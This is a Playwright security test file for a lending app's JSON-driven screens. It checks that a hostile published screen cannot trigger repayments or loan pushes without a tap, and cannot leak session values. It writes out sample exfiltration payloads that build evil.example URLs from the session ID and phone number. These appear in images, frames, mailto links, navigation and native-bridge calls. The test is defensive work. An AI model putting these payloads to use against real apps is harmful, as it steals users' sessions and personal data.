/**
 * Issue 17 on the production build: a hostile published screen of each kind (money without a tap; pictures, frames,
 * links, mail, navigation and native arguments built from session values) is served as /screens/customer-service.json.
 * The page's CSP is bypassed, so the app's own policies are all that stands between the document and the outside. Every
 * request the page makes is recorded: none leaves 127.0.0.1, none goes to a money endpoint, none but the lender API's
 * carries a session value, the sandbox's payments are unchanged and the native bridge is never called.
 */
import { expect, test, type APIRequestContext, type Page } from '@playwright/test';
import { endpoints, moneyEndpointNames } from '../../adapters/http/endpoints.ts';

test.use({ bypassCSP: true });
// One scenario's payments are compared before and after: the tests of this file take turns.
test.describe.configure({ mode: 'serial' });

const scenario = 'repay-no-sms';
const session = { userId: '5512', sessionId: 'S3cr3tSess10n', mobilePhone: '09171234567', deviceId: 'dev-hostile-1', appName: 'hatid' };
const page0 = `/customerService?${new URLSearchParams(session).toString()}`;
const moneyPaths = moneyEndpointNames.map((name) => endpoints[name].path.replace(/^\//, ''));

/** Everything the page asked for, in order (with the CSP bypassed, an outside address would be requested). */
interface Recorder {
  urls: string[];
  native: () => Promise<unknown[]>;
}

/** Serves `doc` as the published customer-service screen, records every request and stands in for the native bridge. */
async function open(page: Page, doc: Record<string, unknown>, text: string | RegExp): Promise<Recorder> {
  const urls: string[] = [];
  page.on('request', (request) => urls.push(request.url()));
  await page.setExtraHTTPHeaders({ 'x-sandbox-scenario': scenario });
  // Anything that does reach the outside host is answered here (and recorded above) rather than by the network.
  await page.route(/evil\.example/, (route) => route.fulfill({ status: 204, body: '' }));
  await page.route('**/screens/customer-service.json*', (route) =>
    route.fulfill({
      status: 200,
      contentType: 'application/json',
      headers: { 'cache-control': 'no-cache' },
      body: JSON.stringify({ schemaVersion: 2, id: 'customer-service', title: 'Customer service', ...doc }),
    }),
  );
  // The server's page carries the published document drawn and inlined (issue 31); this hostile one is served only to
  // the app, so the page goes without its first view and the app fetches /screens/customer-service.json, as it did.
  await page.route(
    (url) => url.pathname === '/customerService',
    async (route) => {
      const answer = await route.fetch({ headers: { ...route.request().headers(), 'accept-encoding': 'identity' } });
      const html = (await answer.text()).replace(/<script type="application\/json" id="hatid-first-view">[^<]*<\/script>/, '');
      await route.fulfill({ response: answer, body: html });
    },
  );
  await page.addInitScript(() => {
    const calls: unknown[] = [];
    Object.assign(window, {
      hatidNativeCalls: calls,
      android: new Proxy({}, { get: (_t, name) => (args: unknown) => void calls.push([name, args]) }),
    });
  });
  await page.goto(page0);
  await expect(page.getByText(text).first()).toBeVisible();
  return { urls, native: () => page.evaluate(() => (window as unknown as { hatidNativeCalls: unknown[] }).hatidNativeCalls) };
}

async function payments(request: APIRequestContext): Promise<unknown[]> {
  const answer = await request.get('/api/sandbox/payments', { headers: { 'x-sandbox-scenario': scenario } });
  return ((await answer.json()) as { data: unknown[] }).data;
}

/** No request left 127.0.0.1, none reached a money endpoint, and only the page itself and the lender API carry the session. */
function expectClean(urls: readonly string[]) {
  const web = urls.filter((u) => /^https?:/.test(u));
  expect(web.length).toBeGreaterThan(3);
  for (const url of web) {
    const address = new URL(url);
    expect(address.hostname, url).toBe('127.0.0.1');
    for (const path of moneyPaths) expect(address.pathname, url).not.toContain(path);
    if (address.pathname.startsWith('/api/') || url.endsWith(page0)) continue;
    for (const value of Object.values(session)) expect(url, url).not.toContain(value);
  }
}

const leak = "='https://evil.example/c.gif?sid=' + session.sessionId + '&ph=' + session.mobilePhone";
const commit = {
  do: 'call',
  endpoint: 'repayment.commit',
  with: { orderId: '5000170', cardId: '1', amount: '1000', userId: '=session.userId', sessionId: '=session.sessionId' },
};
const huichao = { do: 'call', endpoint: 'repayment.huichao', with: { orderId: '5000174', amount: '895900', userId: '=session.userId' } };
const push = {
  do: 'call',
  endpoint: 'loanConfirm.push',
  with: { productId: '7', amount: 500000, periods: 7, termUnit: 'day', mobilePhone: '=session.mobilePhone' },
};
const after = (path: string, onDone: unknown[]) => ({ do: 'countdown', path, from: 1, onDone });

test('money without a tap: onLoad, countdowns re-running a pushing list, onNativeBack, a tap that waits', async ({ page, request }) => {
  const before = await payments(request);
  const r = await open(
    page,
    {
      state: { a: 1, b: 1, c: 1 },
      actions: { push: [push, { do: 'countdown', path: '=state.again', from: 0, onDone: [{ do: 'run', name: 'push' }] }] },
      // Each attack in a list of its own: a refusal stops the list it is in.
      onLoad: [after('=state.a', [commit]), after('=state.b', [{ do: 'run', name: 'push' }]), after('=state.c', [huichao]), commit],
      onNativeBack: [huichao],
      body: [
        { type: 'text', text: "='Hostile ' + state.a + state.b + state.c" },
        { type: 'button', text: 'Pay later', onTap: [{ do: 'wait', ms: 50 }, huichao] },
      ],
    },
    /^Hostile \d+$/,
  );
  await expect(page.getByText('Hostile 000')).toBeVisible();
  await page.evaluate(() => (window as unknown as { onNativeBack: () => void }).onNativeBack());
  await page.getByRole('button', { name: 'Pay later' }).click();
  await page.waitForLoadState('networkidle');
  expectClean(r.urls);
  expect(await payments(request)).toEqual(before);
});

test('a money endpoint as a load: the page says it cannot be loaded and sends nothing', async ({ page, request }) => {
  const before = await payments(request);
  const r = await open(
    page,
    { load: { pay: { call: huichao.endpoint, with: huichao.with } }, body: [{ type: 'text', text: 'never' }] },
    'This page could not be loaded. Please try again later.',
  );
  await page.getByRole('button', { name: 'Try again' }).click();
  await page.waitForLoadState('networkidle');
  expectClean(r.urls);
  expect(await payments(request)).toEqual(before);
});

test('addresses built from session values: pictures, a frame, links, mail, navigation and native arguments', async ({ page }) => {
  const r = await open(
    page,
    {
      body: [
        { type: 'text', text: 'Hostile addresses' },
        { type: 'image', src: leak, alt: 'Promo', width: 40, height: 40, eager: true },
        {
          type: 'image',
          src: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/svg"/></svg>',
          alt: 'Svg',
          eager: true,
        },
        { type: 'cell', title: 'Row', icon: leak },
        { type: 'product-offer', logo: leak, name: 'Peso Agad', buttonText: 'Apply' },
        { type: 'carousel', label: 'News', slides: [{ src: 'https://evil.example/slide.png', alt: 'Slide' }], autoplay: false },
        { type: 'step-list', steps: [{ title: 'Apply', icon: 'https://evil.example/step.svg' }] },
        { type: 'image-grid', images: `=[${leak.slice(1)}]`, alt: 'Evidence' },
        {
          type: 'site-header',
          brand: 'Hatid',
          logo: leak,
          brandTo: '//evil.example',
          items: [{ text: 'Out', to: '//evil.example/x' }],
          current: '/',
          onNavigate: [{ do: 'navigate', to: '=event.to' }],
        },
        { type: 'web-frame', src: "='https://evil.example/frame?sid=' + session.sessionId", title: 'Agreement' },
        {
          type: 'button',
          text: 'Mail',
          onTap: [{ do: 'openUrl', url: "='mailto:x@evil.example?body=' + session.sessionId + ' ' + session.mobilePhone" }],
        },
        {
          type: 'button',
          text: 'Open',
          onTap: [{ do: 'native', action: 'openPage', args: { url: "='https://evil.example/p?sid=' + session.sessionId" } }],
        },
        { type: 'button', text: 'Call', onTap: [{ do: 'native', action: 'callPhone', args: { phone: '09175550142', note: '=session.sessionId' } }] },
        { type: 'button', text: 'Go', onTap: [{ do: 'navigate', to: "='//evil.example/?sid=' + session.sessionId" }] },
        { type: 'button', text: 'Leave', onTap: [{ do: 'openUrl', url: leak }] },
      ],
    },
    'Hostile addresses',
  );
  await expect(page.getByText("This document can't be shown here.")).toBeVisible();
  for (const name of ['Mail', 'Open', 'Call', 'Go', 'Leave']) await page.getByRole('button', { name, exact: true }).click();
  await expect(page.getByText('This link cannot be opened.').first()).toBeVisible();
  await page.waitForLoadState('networkidle');
  expect(new URL(page.url()).pathname).toBe('/customerService');
  expect(await page.locator('img').count()).toBe(0);
  expect(await r.native()).toEqual([]);
  expectClean(r.urls);
});

test('a tap still pays: the borrower taps Pay and repayment.huichao reaches the lender once', async ({ page }) => {
  const r = await open(
    page,
    {
      body: [
        { type: 'text', text: 'Ready to pay' },
        { type: 'button', text: 'Pay', onTap: [huichao] },
      ],
    },
    'Ready to pay',
  );
  await page.getByRole('button', { name: 'Pay' }).click();
  await expect.poll(() => r.urls.filter((u) => u.includes('repayment-huichao')).length).toBe(1);
});
